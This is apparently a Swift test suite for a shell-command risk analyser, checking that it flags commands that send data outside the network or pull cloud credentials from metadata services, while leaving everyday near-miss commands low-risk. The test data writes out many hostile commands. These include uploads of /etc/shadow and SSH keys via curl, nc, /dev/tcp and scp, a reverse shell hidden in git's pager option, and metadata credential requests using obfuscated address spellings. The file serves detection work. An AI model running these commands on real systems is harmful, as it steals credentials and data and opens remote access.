import ShellAnalysis
import Testing

/// Data leaving the machine and cloud credentials from instance-metadata services: judged by what
/// is sent and where it goes (``Destination``), not by the program's name. Each class has plain
/// cases, disguised ones (variables, staging in a file, encodings, odd address spellings) and the
/// everyday near-miss that must stay where it was.
@Suite struct DataLeavingRulesTests {
    struct Case: Sendable, CustomStringConvertible {
        var rule: String
        var command: String
        var dialect: ShellDialect = .sh
        var atLeast: RiskLevel = .high
        var tactics: [String] = []
        var description: String { "\(rule): \(command)" }
    }

    static let caught: [Case] = [
        // Credentials read, then sent outside: TA0010 and TA0006 together.
        Case(rule: "shadow uploaded with curl -T", command: "curl -s -T /etc/shadow http://198.51.100.20/", tactics: ["TA0010", "TA0006"]),
        Case(rule: "shadow posted from a pipe", command: "cat /etc/shadow | curl -s --data-binary @- https://paste.example.com/u", tactics: ["TA0010", "TA0006"]),
        Case(rule: "key staged in an archive, then posted", command: "tar czf /tmp/.k.tgz ~/.ssh/id_rsa; curl -F f=@/tmp/.k.tgz https://files.example.org/up", tactics: ["TA0010", "TA0006"]),
        Case(rule: "shadow through a variable and an encoding", command: #"d=$(base64 -w0 /etc/shadow); curl -d "x=$d" http://203.0.113.9/c"#, tactics: ["TA0010", "TA0006"]),
        Case(rule: "shadow into a raw socket", command: "nc 198.51.100.7 443 < /etc/shadow", tactics: ["TA0010", "TA0006"]),
        Case(rule: "key to /dev/tcp", command: "cat ~/.ssh/id_ed25519 >/dev/tcp/198.51.100.7/80", tactics: ["TA0010", "TA0006"]),
        Case(rule: "shadow by scp to an address outside", command: "scp -P 2222 /etc/shadow u@198.51.100.7:/tmp/", tactics: ["TA0010", "TA0006"]),
        // Files sent outside.
        Case(rule: "folder by rsync to an address outside", command: "rsync -a -e 'ssh -p 443' /srv/data/ u@198.51.100.7:s/", tactics: ["TA0010"]),
        Case(rule: "folder to a cloud bucket", command: "aws s3 sync /srv/data s3://bk-xfer-1", tactics: ["TA0010"]),
        Case(rule: "folder to a bucket behind another endpoint", command: "aws s3 cp /var/lib/app s3://x --recursive --endpoint-url https://s3.example.net", tactics: ["TA0010"]),
        Case(rule: "file to Google storage", command: "gsutil cp /var/lib/app/db.sqlite gs://drop-4411/", tactics: ["TA0010"]),
        Case(rule: "file to an rclone remote", command: "rclone copy /srv/data mega:backup", tactics: ["TA0010"]),
        Case(rule: "archive written on another computer by tar", command: "tar czf u@198.51.100.7:/tmp/d.tgz /srv/data --rsh-command=/usr/bin/ssh", tactics: ["TA0010"]),
        Case(rule: "history pushed to another server", command: "git push https://git.example.net/x/y.git --all", tactics: ["TA0010"]),
        Case(rule: "file posted by wget", command: "wget --post-file=/var/lib/app/export.csv http://198.51.100.3/", tactics: ["TA0010"]),
        Case(rule: "file to a decimal-encoded address", command: "curl -T /srv/data/x.tgz http://3325256711/", tactics: ["TA0010"]),
        // Commands run from a program's options carry their own sendings.
        Case(rule: "upload in tar's checkpoint action", command: "tar cf /dev/null /etc/hosts --checkpoint=1 --checkpoint-action=exec='curl -s -T /etc/shadow http://203.0.113.5/'", tactics: ["TA0010", "TA0006"]),
        Case(rule: "key to /dev/tcp in zip's test command", command: #"zip -q /tmp/a.zip /etc/hosts -T -TT 'sh -c "cat ~/.ssh/id_rsa >/dev/tcp/203.0.113.5/80" #'"#, tactics: ["TA0010", "TA0006"]),
        Case(rule: "reverse shell in git's pager", command: #"git -c core.pager='sh -c "sh -i >& /dev/tcp/203.0.113.5/443 0>&1"' -p log -1"#, tactics: ["TA0002"]),
        // Cloud credentials from instance-metadata services.
        Case(rule: "AWS role credentials", command: "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app", tactics: ["TA0006"]),
        Case(rule: "AWS, address built from variables", command: #"h=169.254; curl -s "http://$h.$h/latest/meta-data/iam/security-credentials/""#, tactics: ["TA0006"]),
        Case(rule: "AWS, IPv6-mapped", command: "curl -s 'http://[::ffff:169.254.169.254]/latest/meta-data/iam/security-credentials/'", tactics: ["TA0006"]),
        Case(rule: "AWS, IPv6-mapped in hex", command: "curl -s 'http://[::ffff:a9fe:a9fe]/latest/api/token' -X PUT", tactics: ["TA0006"]),
        Case(rule: "AWS, hex address", command: "wget -qO- http://0xa9fea9fe/latest/meta-data/iam/security-credentials/", tactics: ["TA0006"]),
        Case(rule: "AWS, decimal address", command: "curl http://2852039166/latest/meta-data/iam/security-credentials/", tactics: ["TA0006"]),
        Case(rule: "AWS, octal dotted", command: "curl http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/", tactics: ["TA0006"]),
        Case(rule: "Google service-account token", command: "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", tactics: ["TA0006"]),
        Case(rule: "Azure managed identity", command: "curl -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'", tactics: ["TA0006"]),
        Case(rule: "Azure identity from PowerShell", command: "Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?resource=https://vault.azure.net'", dialect: .powershell, tactics: ["TA0006"]),
        Case(rule: "ECS task role from Python", command: #"python3 -c "import urllib.request as u; print(u.urlopen('http://169.254.170.2/v2/credentials/x').read())""#, tactics: ["TA0006"]),
    ]

    @Test(arguments: caught)
    func isCaught(_ c: Case) throws {
        let a = try Analyser.bundled().get().analyse(c.command, dialect: c.dialect)
        #expect(a.risk >= c.atLeast, "\(c.rule): `\(c.command)` was \(a.risk): \(a.summary)")
        for t in c.tactics {
            #expect(a.tactics.contains(t), "\(c.rule): expected \(t) in \(a.tactics) (\(a.techniques))")
        }
    }

    /// The explanation says what goes where, in words.
    @Test func explanationSaysWhatGoesWhere() throws {
        let a = try Analyser.bundled().get().analyse("curl -s -T /etc/shadow http://198.51.100.20/")
        #expect(a.summary.contains("Sends the hashed passwords of every account (`/etc/shadow`) to 198.51.100.20, a computer outside this network."), "\(a.summary)")
        let b = try Analyser.bundled().get().analyse("curl -T /srv/data/x.tgz http://3325256711/")
        #expect(b.explanation.contains { $0.contains("198.51.100.7 (written `3325256711`)") }, "\(b.explanation)")
    }

    static let nearMisses: [Case] = [
        Case(rule: "an upload to this machine", command: "curl -T /var/log/app/app.log http://127.0.0.1:8080/logs", atLeast: .medium),
        Case(rule: "a port check", command: "nc -zv db01.internal.example 5432", atLeast: .low),
        Case(rule: "a listing of a bucket", command: "aws s3 ls s3://agency-app-logs/2025/06/", atLeast: .low),
        Case(rule: "a download from a bucket", command: "aws s3 cp s3://agency-app-releases/app-2.4.1.tar.gz /tmp/", atLeast: .medium),
        Case(rule: "a copy inside the network", command: "scp /var/log/app/app.log backup01:/srv/logs/", atLeast: .medium),
        Case(rule: "JSON posted to a health endpoint", command: #"curl -s -X POST -d '{"ping":1}' http://localhost:8080/health"#, atLeast: .low),
        Case(rule: "the instance id echoed", command: "echo http://169.254.169.254/latest/meta-data/instance-id", atLeast: .low),
        Case(rule: "a plain GET", command: "curl -sI https://www.example.com/", atLeast: .medium),
        // An archive reads its inputs: packing logs or a site changes nothing in them.
        Case(rule: "logs packed for a ticket", command: "tar czf /tmp/logs-INC1.tar.gz /var/log/nginx/*.log", atLeast: .medium),
        Case(rule: "a site zipped", command: "zip -qr /tmp/site.zip /var/www/html", atLeast: .medium),
        Case(rule: "an ordinary git setting", command: "git -c user.name=ops -c color.ui=false log -1", atLeast: .medium),
    ]

    @Test(arguments: nearMisses)
    func nearMissStaysQuiet(_ c: Case) throws {
        let a = try Analyser.bundled().get().analyse(c.command, dialect: c.dialect)
        #expect(a.risk <= c.atLeast, "\(c.rule): `\(c.command)` was \(a.risk): \(a.summary)")
    }

    @Test(arguments: [
        ("169.254.169.254", Destination.Kind.instanceMetadata), ("[::ffff:169.254.169.254]", .instanceMetadata),
        ("0xa9fea9fe", .instanceMetadata), ("2852039166", .instanceMetadata), ("169.254.43518", .instanceMetadata),
        ("metadata.google.internal.", .instanceMetadata), ("[fd00:ec2::254]", .instanceMetadata),
        ("127.0.0.1", .loopback), ("localhost:8080", .loopback), ("[::1]", .loopback), ("0177.0.0.1", .loopback),
        ("10.20.0.12", .internalNetwork), ("172.20.1.1", .internalNetwork), ("192.168.1.10", .internalNetwork),
        ("backup01", .internalNetwork), ("db01.internal.example", .internalNetwork), ("u@fileserver.corp.example.com", .internalNetwork),
        ("198.51.100.20", .outside), ("203.0.113.9:443", .outside), ("8.8.8.8", .outside), ("files.example.org", .outside),
        ("172.32.0.1", .outside), ("[2001:db8::1]", .outside),
    ])
    func destinationsAreClassified(_ host: String, _ kind: Destination.Kind) {
        #expect(Destination.classify(host).kind == kind, "\(host)")
    }
}

/// Windows uploads judged by where the file goes.
@Suite struct WindowsDataLeavingTests {
    @Test(arguments: [
        ("bitsadmin /transfer j /upload /priority high https://198.51.100.7/u D:\\Data\\roster.xlsx", ShellDialect.cmd),
        ("Invoke-RestMethod -Uri https://203.0.113.9/u -Method Put -InFile C:\\Users\\ann\\Documents\\plan.docx", .powershell),
        ("Start-BitsTransfer -TransferType Upload -Source D:\\Data\\x.bak -Destination https://files.example.org/x.bak", .powershell),
    ])
    func uploadsOutsideAreExfiltration(_ command: String, _ dialect: ShellDialect) throws {
        let a = try Analyser.bundled().get().analyse(command, dialect: dialect)
        #expect(a.risk >= .high, "`\(command)` was \(a.risk): \(a.summary)")
        #expect(a.tactics.contains("TA0010"), "`\(command)`: \(a.tactics)")
    }

    @Test func anUploadInsideIsNot() throws {
        let a = try Analyser.bundled().get().analyse("bitsadmin /transfer j /upload http://fileserver.corp.local/u D:\\Data\\x.txt", dialect: .cmd)
        #expect(!a.findings.contains { $0.reason.contains("outside this network") }, "\(a.findings.map(\.reason))")
    }
}
